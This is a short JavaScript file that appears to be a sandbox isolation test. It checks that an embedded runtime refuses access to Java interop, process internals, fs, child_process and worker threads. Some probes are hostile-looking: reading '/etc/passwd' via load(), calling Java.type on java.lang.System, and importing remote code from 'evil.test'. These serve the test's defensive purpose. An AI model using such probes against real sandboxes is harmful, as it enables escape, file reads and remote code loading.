// Everything that could reach the host: all must be absent or refused.
const probes = {
  Java: () => typeof Java === 'undefined' ? 'absent' : Java.type('java.lang.System'),
  Polyglot: () => typeof Polyglot === 'undefined' ? 'absent' : Polyglot.eval('js', '1'),
  Packages: () => typeof Packages === 'undefined' ? 'absent' : 'present',
  java: () => typeof java === 'undefined' ? 'absent' : 'present',
  load: () => typeof load === 'undefined' ? 'absent' : load('/etc/passwd'),
  loadWithNewGlobal: () => typeof loadWithNewGlobal === 'undefined' ? 'absent' : 'present',
  quit: () => typeof quit === 'undefined' ? 'absent' : 'present',
  Graal: () => typeof Graal === 'undefined' ? 'absent' : 'present',
  processExit: () => typeof process.exit === 'undefined' ? 'absent' : 'present',
  processBinding: () => typeof process.binding === 'undefined' ? 'absent' : 'present',
  processEnv: () => Object.keys(process.env).length === 0 ? 'absent' : 'present',
  fs: () => require('fs'),
  childProcess: () => require('child_process'),
  workerThreads: () => require('worker_threads'),
  Worker: () => typeof Worker === 'undefined' ? 'absent' : 'present',
  host: () => typeof host === 'undefined' ? 'absent' : 'present',
  internal: () => typeof internal === 'undefined' ? 'absent' : 'present',
  evalJava: () => eval('typeof Java') === 'undefined' ? 'absent' : 'present',
  functionJava: () => Function('return typeof Java')() === 'undefined' ? 'absent' : 'present',
  cryptoInternals: () => Object.keys(require('crypto').createHash('sha256')).length === 0 ? 'absent' : 'present',
};
const result = {};
for (const [name, probe] of Object.entries(probes)) {
  try {
    result[name] = String(probe());
  } catch (e) {
    result[name] = 'refused';
  }
}
try {
  await import('https://evil.test/x.js');
  result.import = 'loaded';
} catch (e) {
  result.import = 'refused';
}
res.end(JSON.stringify(result));
